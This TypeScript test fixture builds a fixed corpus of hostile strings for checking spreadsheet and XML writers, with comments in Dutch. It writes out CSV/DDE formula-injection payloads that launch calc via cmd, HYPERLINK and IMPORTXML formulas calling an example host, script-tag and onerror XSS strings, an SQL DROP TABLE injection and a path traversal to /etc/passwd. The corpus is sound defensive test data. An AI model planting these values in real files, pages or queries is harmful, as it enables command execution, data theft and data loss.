/**
 * A corpus of hostile strings for the writers (issue 10 point 5): formula starts, `+ - @` and tab
 * starts, CR/LF in every combination, bidi and zero-width characters, emoji and combining marks,
 * characters XML cannot hold (C0 controls, U+FFFE, U+FFFF, lone surrogates), markup and template
 * look-alikes, OOXML `_xHHHH_` escapes, and very long texts. Deterministic: the same list on every
 * run. Fictional content only.
 */

/** A string of exactly `n` UTF-16 code units, of several words and lines, with an emoji across the Excel limit. */
export function longText(n: number, seed = 'lang'): string {
  const unit = `${seed} tekst met woorden, cijfers 12345 en een regel\n`;
  let s = unit.repeat(Math.ceil(n / unit.length)).slice(0, n);
  // An emoji (a surrogate pair) just across 32,767: a cut there must not split it.
  if (n > 32_770) s = `${s.slice(0, 32_766)}😀${s.slice(32_768)}`;
  return s.slice(0, n);
}

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  ' =',
  '＝',
  '＋',
  '－',
  '＠',
  "'",
  '"',
  '|',
  '%',
  '\u0000',
];
const BODIES = [
  'SUM(A1:A9)',
  'HYPERLINK("https://x.example/?"&A1,"klik")',
  'IMPORTXML("https://x.example","//a")',
  "cmd|' /C calc'!A0",
  '31 6 12345678',
  '1+1',
  'DDE("cmd";"/C calc";"!A0")',
  '2026-01-12',
  'ja',
];

/** Characters that are hard for writers and readers, each put in a sentence. */
const SPECIALS: [string, string][] = [
  ['CR LF', '\r\n'],
  ['los CR', '\r'],
  ['LF', '\n'],
  ['LF CR', '\n\r'],
  ['twee CR', '\r\r'],
  ['tab', '\t'],
  ['NUL', '\u0000'],
  ['BEL', '\u0007'],
  ['backspace', '\u0008'],
  ['verticale tab', '\u000B'],
  ['form feed', '\u000C'],
  ['escape', '\u001B'],
  ['unit separator', '\u001F'],
  ['DEL', '\u007F'],
  ['C1 NEL', '\u0085'],
  ['U+FFFE', '\uFFFE'],
  ['U+FFFF', '\uFFFF'],
  ['U+FFFD', '\uFFFD'],
  ['losse hoge surrogaat', '\uD83D'],
  ['losse lage surrogaat', '\uDE00'],
  ['omgekeerd paar', '\uDE00\uD83D'],
  ['RLO', '\u202E'],
  ['LRO', '\u202D'],
  ['RLI', '\u2067'],
  ['PDI', '\u2069'],
  ['LRM', '\u200E'],
  ['RLM', '\u200F'],
  ['ZWSP', '\u200B'],
  ['ZWNJ', '\u200C'],
  ['ZWJ', '\u200D'],
  ['BOM', '\uFEFF'],
  ['line separator', '\u2028'],
  ['paragraph separator', '\u2029'],
  ['NBSP', '\u00A0'],
  ['emoji', '😀'],
  ['familie-emoji', '👩🏽‍🦱'],
  ['vlag', '🇳🇱'],
  ['combinerend accent', 'e\u0301'],
  ['drie accenten', 'a\u0301\u0308\u0323'],
  ['Zalgo', 'Z\u0336\u0334a\u0335\u0337'],
  ['Arabisch', 'مرحبا'],
  ['Hebreeuws', 'שלום'],
  ['Turkse i', 'ışık İ'],
  ['CJK', '漢字かな'],
  ['wiskunde', '𝔘𝔫𝔦𝔠𝔬𝔡𝔢'],
  ['markup', '<img src=x onerror=alert(1)>'],
  ['script', '</p><script>alert(1)</script>'],
  ['entiteit', '&amp; &lt; &#0; &#xFFFE;'],
  ['CDATA-einde', ']]>'],
  ['XML-commentaar', '<!-- x -->'],
  ['aanhalingstekens', `"'\``],
  ['OOXML-escape', '_x000D_'],
  ['OOXML-escape kleine letters', '_x000d_'],
  ['dubbele OOXML-escape', '_x005F_x000D_'],
  ['overlappende escapes', '_x0041_x0042_'],
  ['sjabloon', '{{naam}} $1 $& $' + '{x}'],
  ['backslash', '\\n \\r \\u0000'],
  ['procent', '%s %d %n'],
  ['SQL', "'; DROP TABLE x; --"],
  ['pad', '../../etc/passwd'],
  ['javascript-link', 'javascript:alert(1)'],
];

/** At least 500 distinct hostile strings, in a fixed order, plus a 60,000-character one. */
export function hostileCorpus(): string[] {
  const out: string[] = [];
  for (const start of STARTS) for (const body of BODIES) out.push(`${start}${body}`);
  for (const [name, ch] of SPECIALS) {
    out.push(ch);
    out.push(`${name}:${ch}einde`);
    out.push(`${ch}${name} aan het begin`);
    out.push(`aan het eind ${name}${ch}`);
    out.push(`${name} ${ch}${ch}${ch} drie keer`);
    out.push(`=${ch}${name}`);
  }
  // Mixed: every special next to every other in a few fixed pairs.
  for (let i = 0; i < SPECIALS.length; i++) {
    const a = SPECIALS[i]![1];
    const b = SPECIALS[(i * 7 + 3) % SPECIALS.length]![1];
    out.push(`gemengd ${i}: ${a}|${b}|${a}${b}`);
  }
  out.push(longText(32_767, 'precies'));
  out.push(longText(32_768, 'een te veel'));
  out.push(longText(60_000, 'zestigduizend'));
  return [...new Set(out)];
}
